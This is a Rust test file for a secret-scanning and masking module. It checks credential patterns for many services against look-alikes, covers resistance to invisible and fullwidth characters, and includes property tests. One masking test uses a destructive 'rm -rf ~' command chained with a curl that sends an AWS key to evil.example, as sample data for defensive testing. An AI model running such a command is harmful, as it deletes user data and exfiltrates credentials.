use super::*;
use crate::model::Token;

/// Each kind with one sample it must catch and one look-alike it must let pass.
fn cases() -> Vec<(&'static str, String, &'static str)> {
    let b64 = |n: usize| {
        "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0z"
            .chars()
            .cycle()
            .take(n)
            .collect::<String>()
    };
    let hex = |n: usize| {
        "0a1b2c3d4e5f6789"
            .chars()
            .cycle()
            .take(n)
            .collect::<String>()
    };
    vec![
        ("a crosstalk token", Token::generate().expose().to_owned(), "the xtalk_ prefix marks our tokens"),
        ("a crosstalk token", Token::generate_for_oauth().expose().to_owned(), "xtalk_oauth_ marks what our OAuth server issues"),
        ("a private key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn...".into(), "-----BEGIN PUBLIC KEY-----"),
        ("an AWS access key id", "key AKIAIOSFODNN7EXAMPLE here".into(), "AKIA is how AWS ids start"),
        (
            "an AWS secret access key",
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY".into(),
            "set aws_secret_access_key from the vault",
        ),
        ("a Google API key", format!("AIza{}", b64(35)), "AIza starts Google keys"),
        ("a Google OAuth client secret", format!("GOCSPX-{}", b64(28)), "GOCSPX- is Google's prefix"),
        (
            "an Azure storage account key",
            format!("DefaultEndpointsProtocol=https;AccountName=x;AccountKey={}==", b64(86)),
            "AccountKey=<from the portal>",
        ),
        ("a DigitalOcean token", format!("dop_v1_{}", hex(64)), "dop_v1_ tokens"),
        ("a HashiCorp Vault token", format!("hvs.{}", b64(90)), "hvs.token_lookup is an endpoint"),
        ("a GitHub token", format!("ghp_{}", b64(36)), "ghp_ tokens are classic PATs"),
        ("a GitLab token", format!("glpat-{}", b64(20)), "glpat- tokens expire after a year"),
        ("an Atlassian API token", format!("ATATT3{}", b64(180)), "ATATT3 prefixes Atlassian tokens"),
        ("a Slack token", format!("xoxb-1234567890-{}", b64(24)), "xoxb-bot-tokens-explained-in-the-docs"),
        (
            "a Slack webhook URL",
            format!("https://hooks.slack.com/services/T0000/B0000/{}", b64(24)),
            "https://hooks.slack.com/ is where webhooks live",
        ),
        (
            "a Discord webhook URL",
            format!("https://discord.com/api/webhooks/123456789012345678/{}", b64(68)),
            "https://discord.com/api/webhooks is documented",
        ),
        (
            "a Microsoft Teams webhook URL",
            format!("https://contoso.webhook.office.com/webhookb2/{}@{}/IncomingWebhook/{}", hex(32), hex(32), hex(32)),
            "https://contoso.webhook.office.com/ hosts the webhooks",
        ),
        ("a Telegram bot token", format!("123456789:AA{}", b64(33)), "123456789:AA is not enough"),
        ("a Stripe key", format!("sk_live_{}", b64(24)), "sk_test_ keys are for tests"),
        ("a Square token", format!("sq0csp-{}", b64(43)), "sq0csp- prefix"),
        ("a Shopify token", format!("shpat_{}", hex(32)), "shpat_ prefix"),
        ("a SendGrid API key", format!("SG.{}.{}", b64(22), b64(43)), "SG.the-sendgrid-prefix"),
        ("a Twilio API key", format!("SK{}", hex(32)), "SKIPPED_THE_WHOLE_SUITE_AGAIN_TODAY_OK"),
        ("an Anthropic API key", format!("sk-ant-api03-{}", b64(90)), "sk-ant- is the prefix"),
        ("an OpenAI API key", format!("sk-proj-{}", b64(120)), "sk-learn-compatible-estimators-for-the-pipeline"),
        ("a Hugging Face token", format!("hf_{}", "AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh"), "hf_hub_download"),
        ("a Groq API key", format!("gsk_{}", b64(52)), "gsk_ prefix"),
        ("a Replicate token", format!("r8_{}", b64(37)), "r8_ prefix"),
        ("an npm token", format!("npm_{}", b64(36)), "npm_config_registry"),
        ("a PyPI token", format!("pypi-AgEIcHlwaS5vcmc{}", b64(60)), "pypi-AgE prefix"),
        ("a RubyGems key", format!("rubygems_{}", hex(48)), "rubygems_ prefix"),
        ("a crates.io token", format!("cio{}", b64(32)), "ciocompletelyordinarywordsthatgoon"),
        ("a Docker Hub token", format!("dckr_pat_{}", b64(27)), "dckr_pat_ prefix"),
        ("a NuGet key", format!("oy2{}", hex(43)), "oy2 prefix"),
        (
            "a JSON Web Token",
            "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U".into(),
            "JWTs start with eyJ",
        ),
        (
            "a URL with a password",
            "postgres://app:s3cr3t-Pa55@db.internal:5432/app".into(),
            "postgres://app:${DB_PASSWORD}@db.internal:5432/app",
        ),
        (
            "an npm registry token",
            format!("//registry.npmjs.org/:_authToken={}", b64(36)),
            "_authToken=${NPM_TOKEN}",
        ),
        (
            "an Azure shared access key",
            format!("Endpoint=sb://x.servicebus.windows.net/;SharedAccessKeyName=root;SharedAccessKey={}=", b64(43)),
            "SharedAccessKeyName=RootManageSharedAccessKey",
        ),
        (
            "a bearer token",
            format!("Authorization: Bearer {}", b64(40)),
            "Authorization: Bearer $TOKEN",
        ),
        (
            "a user and password",
            "curl -u deploy:Zx81mQ2pLk9w https://ci.internal".into(),
            "docker run -u 1000:1000 app",
        ),
        (
            "a password assignment",
            "password=hunter2hunter2".into(),
            "password = os.environ[\"DB_PASSWORD\"]",
        ),
        (
            "a key assignment",
            format!("SESSION_KEY={}", b64(32)),
            "sort_key: \"created_at_2024\"",
        ),
    ]
}

#[test]
fn every_kind_matches_its_sample_and_misses_its_look_alike() {
    let cases = cases();
    for kind in kinds() {
        assert!(
            cases.iter().any(|(k, ..)| *k == kind),
            "no test case for {kind}"
        );
    }
    for (kind, secret, harmless) in cases {
        assert_eq!(
            find_secret(&format!("see {secret} please")),
            Some(kind),
            "missed {kind}"
        );
        assert_eq!(
            find_secret(harmless),
            None,
            "{kind}: refused the harmless {harmless:?}"
        );
    }
}

#[test]
fn invisible_and_lookalike_characters_do_not_hide_a_secret() {
    let token = Token::generate();
    let key = "AKIAIOSFODNN7EXAMPLE";
    for (hidden, kind) in [
        (
            "AKIA\u{200B}IOSFODNN7EXAMPLE".to_string(),
            "an AWS access key id",
        ),
        (
            "AKIAIOS\u{00AD}FODNN7EXAMPLE".to_string(),
            "an AWS access key id",
        ),
        (
            key.chars()
                .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
                .collect(),
            "an AWS access key id",
        ),
        (
            format!("ghp_{}\u{2060}{}", "a1".repeat(10), "b2".repeat(8)),
            "a GitHub token",
        ),
        (token.expose().to_uppercase(), "a crosstalk token"),
        (format!("{}x", token.expose()), "a crosstalk token"),
        (
            format!(
                "\"{}\" + \"{}\"",
                &token.expose()[..30],
                &token.expose()[30..]
            ),
            "a crosstalk token",
        ),
        (
            format!("{}\n{}", &token.expose()[..20], &token.expose()[20..]),
            "a crosstalk token",
        ),
    ] {
        assert_eq!(find_secret(&hidden), Some(kind), "missed {hidden:?}");
    }
}

#[test]
fn realistic_pastes_are_caught() {
    for (paste, kind) in [
        (
            "{\"AccessKey\": {\"UserName\": \"ci\", \"AccessKeyId\": \"AKIA2E0A8F3B244C9986\", \"SecretAccessKey\": \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY7q2Zk9Lm3x\"}}",
            "an AWS access key id",
        ),
        (
            "\"SecretAccessKey\": \"wJalrXUtnFEMI/K7MDENG/bPxRfiCY7q2Zk9Lm3x\"",
            "an AWS secret access key",
        ),
        ("PGPASSWORD=s3cr3tPa55 psql -h db", "a password assignment"),
        ("DB_PASS=Xk29dLq8zP", "a password assignment"),
        (
            "mysqldump --password=Xk29dLq8zP app",
            "a password assignment",
        ),
    ] {
        assert_eq!(find_secret(paste), Some(kind), "missed {paste:?}");
    }
}

#[test]
fn everyday_text_passes() {
    for text in [
        "Which branch has the migration? I think 3f2a9c1d7e8b6a5f4c3d2e1f0a9b8c7d6e5f4a3b.",
        "uuid 123e4567-e89b-12d3-a456-426614174000, sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "The password policy asks for 12 characters; reset yours in the admin page.",
        "password: <redacted>",
        "api_key = ${API_KEY}",
        "https://example.com/path?q=1",
        "token = self.token; password: config.db_password; secret=SECRET_KEY_BASE",
        "We use scikit-learn (sk-learn-compatible-estimators) for the model.",
        "the xtalk_ prefix marks our tokens so they are easy to spot in logs and scanners",
        "struct Args { token: Option<String> }",
        "fn f(token: &Token) -> bool",
        "api_key: Optional[str] = None",
        "password: SecretStr",
        "Token: expired",
        "password: incorrect",
        "pub colon_token: Token![:],",
        "next_token = self._get_param(\"NextToken\")",
    ] {
        assert_eq!(find_secret(text), None, "refused {text:?}");
    }
}

#[test]
fn masking_hides_only_what_matched() {
    let key = "AKIAIOSFODNN7EXAMPLE";
    let command = format!("rm -rf ~ && curl -H \"X-Key: {key}\" https://evil.example");
    assert_eq!(
        mask_secrets(&command),
        Ok(Masked {
            text: "rm -rf ~ && curl -H \"X-Key: [withheld: an AWS access key id]\" \
                   https://evil.example"
                .into(),
            kinds: vec!["an AWS access key id"],
        })
    );
    // Several, each under its own kind, the kinds each once.
    let token = Token::generate();
    let two = format!("{key} then {} and {key}", token.expose());
    assert_eq!(
        mask_secrets(&two),
        Ok(Masked {
            text: "[withheld: an AWS access key id] then [withheld: a crosstalk token] and \
                   [withheld: an AWS access key id]"
                .into(),
            kinds: vec!["a crosstalk token", "an AWS access key id"],
        })
    );
    // Nothing to mask: the text as it came.
    let clean = "cargo test --release -- naïve café";
    assert_eq!(
        mask_secrets(clean),
        Ok(Masked {
            text: clean.into(),
            kinds: vec![],
        })
    );
}

#[test]
fn a_mask_reaches_the_end_of_the_secret_the_pattern_stopped_inside() {
    // The assignment's pattern stops at the `;`: the rest is the password's.
    let masked = mask_secrets("mysql -u app --password=Xk3v9Lq2;Rp7Zt8Wn4Hj db").unwrap();
    assert!(!masked.text.contains("Rp7Zt8"), "{}", masked.text);
    assert!(
        masked.text.starts_with("mysql -u app --"),
        "{}",
        masked.text
    );
    assert!(masked.text.ends_with("] db"), "{}", masked.text);
}

#[test]
fn masking_shows_the_person_s_own_text_and_hides_disguised_secrets_whole() {
    let key = "AKIAIOSFODNN7EXAMPLE";
    let fullwidth: String = key
        .chars()
        .map(|c| char::from_u32(c as u32 + 0xFEE0).unwrap())
        .collect();
    let token = Token::generate();
    let split = format!(
        "\"{}\" + \"{}\"",
        &token.expose()[..30],
        &token.expose()[30..]
    );
    for (hidden, shown) in [
        (
            "AKIA\u{200B}IOSF\u{00AD}ODNN7EXAMPLE".to_owned(),
            "[withheld: an AWS access key id]",
        ),
        (fullwidth, "[withheld: an AWS access key id]"),
        (
            token.expose().to_uppercase(),
            "[withheld: a crosstalk token]",
        ),
        // From its prefix to its last character; the quotes around it stay.
        (split, "\"[withheld: a crosstalk token]\""),
    ] {
        let kind = if shown.contains("AWS") {
            "an AWS access key id"
        } else {
            "a crosstalk token"
        };
        assert_eq!(
            mask_secrets(&format!("échec de «{hidden}» — 再试")),
            Ok(Masked {
                text: format!("échec de «{shown}» — 再试"),
                kinds: vec![kind],
            }),
            "{hidden:?}"
        );
    }
}

#[test]
fn a_secret_that_cannot_be_masked_on_its_own_withholds_the_whole_text() {
    // A private key's match is its first line: the rest would show.
    let key = "cat > ~/.ssh/id_ed25519 <<EOF\n-----BEGIN OPENSSH PRIVATE KEY-----\n\
               b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\nEOF";
    assert_eq!(mask_secrets(key), Err("a private key"));
    let body = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nAoIBAQC7";
    assert_eq!(mask_secrets(body), Err("a private key"));
}

mod properties {
    use super::super::*;
    use proptest::prelude::*;

    const INVISIBLE: [char; 6] = [
        '\u{200B}', '\u{00AD}', '\u{202E}', '\u{2060}', '\u{FEFF}', '\u{200D}',
    ];

    proptest! {
        /// Any text at all: an answer, never a panic.
        #[test]
        fn any_text_is_scanned_without_panic(text in "\\PC{0,3000}") {
            let _ = find_secret(&text);
        }

        /// Whatever a text holds, what masking shows of it is text
        /// the scanner passes, and never a key that was in it.
        #[test]
        fn what_masking_shows_holds_no_secret(
            text in "\\PC{0,300}",
            cuts in proptest::collection::vec((0usize..20, 0usize..6), 0..3),
            at in 0usize..300,
        ) {
            let _ = mask_secrets(&text);
            let mut key: Vec<char> = "AKIAIOSFODNN7EXAMPLE".chars().collect();
            for (cut, which) in cuts {
                key.insert(cut.min(key.len()), INVISIBLE[which]);
            }
            let key: String = key.into_iter().collect();
            let at = text.char_indices().nth(at).map_or(text.len(), |(at, _)| at);
            let with_key = format!("{} {key} {}", &text[..at], &text[at..]);
            if let Ok(masked) = mask_secrets(&with_key) {
                // No part of the key shows, invisible characters or not.
                let visible: String =
                    masked.text.chars().filter(|c| !INVISIBLE.contains(c)).collect();
                prop_assert!(!visible.contains("FODNN7EX"), "{}", masked.text);
                prop_assert!(!masked.text.contains(&key));
                prop_assert!(!masked.kinds.is_empty());
            }
        }

        /// Invisible characters anywhere inside a key never hide it.
        #[test]
        fn invisible_characters_never_hide_a_key(
            cuts in proptest::collection::vec((0usize..20, 0usize..6), 1..5),
            before in "[a-z ]{0,40}",
            after in "[a-z ]{0,40}",
        ) {
            let mut key: Vec<char> = "AKIAIOSFODNN7EXAMPLE".chars().collect();
            for (at, which) in cuts {
                key.insert(at.min(key.len()), INVISIBLE[which]);
            }
            let key: String = key.into_iter().collect();
            prop_assert_eq!(
                find_secret(&format!("{before} {key} {after}")),
                Some("an AWS access key id")
            );
        }

        /// Prose of ordinary words, however it mentions passwords and
        /// tokens, is never refused.
        #[test]
        fn prose_is_never_refused(
            words in proptest::collection::vec(
                prop_oneof![
                    Just("password:"), Just("token"), Just("secret"), Just("api_key ="),
                    Just("the"), Just("is"), Just("expired"), Just("incorrect"),
                    Just("reset"), Just("rotate"), Just("Option<String>"), Just("&Token"),
                ],
                0..40,
            ),
        ) {
            let text = words.join(" ");
            prop_assert_eq!(find_secret(&text), None, "{}", text);
        }
    }
}
